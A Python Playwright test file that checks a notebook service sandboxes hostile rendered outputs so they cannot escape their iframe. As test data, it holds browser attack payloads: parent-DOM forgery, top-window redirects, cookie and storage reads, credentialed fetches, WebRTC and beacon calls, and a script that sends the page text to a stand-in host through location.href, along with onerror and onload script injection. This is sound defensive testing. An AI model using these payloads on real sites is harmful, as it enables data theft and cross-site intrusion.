"""Hostile outputs in a reader's browser: they draw in their frame, and nothing else."""

import json
import socket
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Page
from service_process import ServiceProcess

FRAME = "iframe >> nth=0"


@dataclass(frozen=True)
class Elsewhere:
    """A host that nothing may reach: its sockets keep what came."""

    tcp: socket.socket
    udp: socket.socket

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.tcp.getsockname()[1]}"

    @property
    def stun(self) -> str:
        return f"stun:127.0.0.1:{self.udp.getsockname()[1]}"

    def was_reached(self) -> bool:
        for read in (self.tcp.accept, lambda: self.udp.recv(1)):
            try:
                read()
            except BlockingIOError:
                continue
            return True
        return False


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with (
        socket.socket(socket.AF_INET, socket.SOCK_STREAM) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
    ):
        for listener in (tcp, udp):
            listener.bind(("127.0.0.1", 0))
            listener.setblocking(False)
        tcp.listen()
        yield Elsewhere(tcp, udp)


def show(page: Page, service: ServiceProcess, *outputs: dict[str, str]) -> str:
    """Record the MIME bundles as outputs of one run and open the notebook; returns its URL."""
    code = "\n".join(f"display({bundle!r}, raw=True)" for bundle in outputs)
    with service.client() as client:
        session_id = client.post("/v1/sessions", json={}).json()["id"]
        assert client.post(f"/v1/sessions/{session_id}/runs", json={"code": code}).json()["status"] == "ok"
    page.goto(f"{service.url}/v1/notebooks/{session_id}")
    return page.url


STAYING = """
<div id="mark">begun</div><a id="away" target="_top" href="http://HOST/a" ping="http://HOST/ping">x</a>
<base href="http://HOST/" target="_top"><img src="relative"><form id="form" action="http://HOST/form"></form>
<link rel="preconnect" href="http://HOST"><link rel="dns-prefetch" href="http://HOST">
<link rel="prefetch" href="http://HOST/p"><link rel="preload" as="script" href="http://HOST/l">
<link rel="stylesheet" href="http://HOST/s"><script src="http://HOST/x"></script>
<style>@import "http://HOST/i"; body { background: url(http://HOST/css) }
@font-face { font-family: q; src: url(http://HOST/f) } p { font-family: q }</style><p>text</p>
<video src="http://HOST/v"></video><iframe src="http://HOST/frame"></iframe><object data="http://HOST/o"></object>
<script>
const refused = [];
const attempt = (name, work) => { try { if (!work()) refused.push(name) } catch (error) { refused.push(name) } };
attempt("parent", () => { parent.document.body.innerHTML = "forged"; return true });
attempt("top", () => { top.location = "http://HOST/top"; return true });
attempt("cookie", () => document.cookie + localStorage.length + "1");
attempt("open", () => open("http://HOST/open"));
attempt("webrtc", () => new RTCPeerConnection({iceServers: [{urls: "STUN"}]}).createOffer());
attempt("socket", () => { navigator.sendBeacon("http://HOST/b"); new WebSocket("ws://HOST/w"); return false });
away.click(); form.submit();
const inner = document.createElement("iframe"); document.body.append(inner);
attempt("inner webrtc", () => new inner.contentWindow.RTCPeerConnection());
Promise.allSettled([fetch("http://HOST/fetch"), fetch("SERVICE/v1/sessions", {credentials: "include"})]).then(all =>
  requestAnimationFrame(() => requestAnimationFrame(() => {
    for (const one of all) if (one.status == "rejected") refused.push("fetch");
    mark.textContent = JSON.stringify(refused);
  })));
</script>
"""


def test_an_output_draws_but_reaches_neither_the_page_nor_the_service_nor_the_network(
    page: Page, service: ServiceProcess, elsewhere: Elsewhere
) -> None:
    attack = STAYING.replace("HOST", elsewhere.address).replace("STUN", elsewhere.stun)
    url = show(page, service, {"text/html": attack.replace("SERVICE", service.url)})
    mark = page.frame_locator(FRAME).locator("#mark", has_text="[")
    assert set(json.loads(mark.inner_text())) == {
        *("parent", "top", "cookie", "open", "webrtc", "socket", "inner webrtc", "fetch")
    }
    assert mark.inner_text().count('"fetch"') == 2
    assert (page.url, len(page.context.pages)) == (url, 1)
    assert "Run 1" in page.inner_text("main")
    assert not elsewhere.was_reached()


LEAVING = {
    "location": "<script>location.href = 'http://HOST/?' + document.body.innerText</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://HOST/">',
    "link": '<a id="away" href="http://HOST/">x</a><script>away.click()</script>',
}


@pytest.mark.parametrize("way", LEAVING)
def test_a_frame_can_not_go_elsewhere(
    page: Page, service: ServiceProcess, elsewhere: Elsewhere, way: str
) -> None:
    refusals: list[str] = []
    page.on("console", lambda message: refusals.append(message.text))
    with page.expect_console_message(lambda message: "frame-src" in message.text):
        url = show(page, service, {"text/html": LEAVING[way].replace("HOST", elsewhere.address)})
    assert page.url == url
    assert not elsewhere.was_reached()


def test_outputs_in_the_page_itself_run_nothing(
    page: Page, service: ServiceProcess, elsewhere: Elsewhere
) -> None:
    attack = f'<img src="http://{elsewhere.address}/" onerror="document.title = 1"><script>document.title = 2</script>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=3"><image href="http://{elsewhere.address}/"/></svg>'
    show(page, service, {"text/markdown": attack}, {"image/svg+xml": svg}, {"text/latex": attack})
    assert page.locator("iframe").count() == 0
    assert page.locator(".output img").count() == 1
    assert page.title().startswith("Notebook")
    assert not elsewhere.was_reached()


def test_a_frame_that_is_opened_by_itself_shows_and_runs_nothing(
    page: Page, service: ServiceProcess, elsewhere: Elsewhere
) -> None:
    url = show(page, service, {"text/html": LEAVING["location"].replace("HOST", elsewhere.address)})
    page.goto(f"{url}/frames/1/0")
    assert "on the page of its notebook only" in page.inner_text("body")
    assert page.url == f"{url}/frames/1/0"
    assert not elsewhere.was_reached()
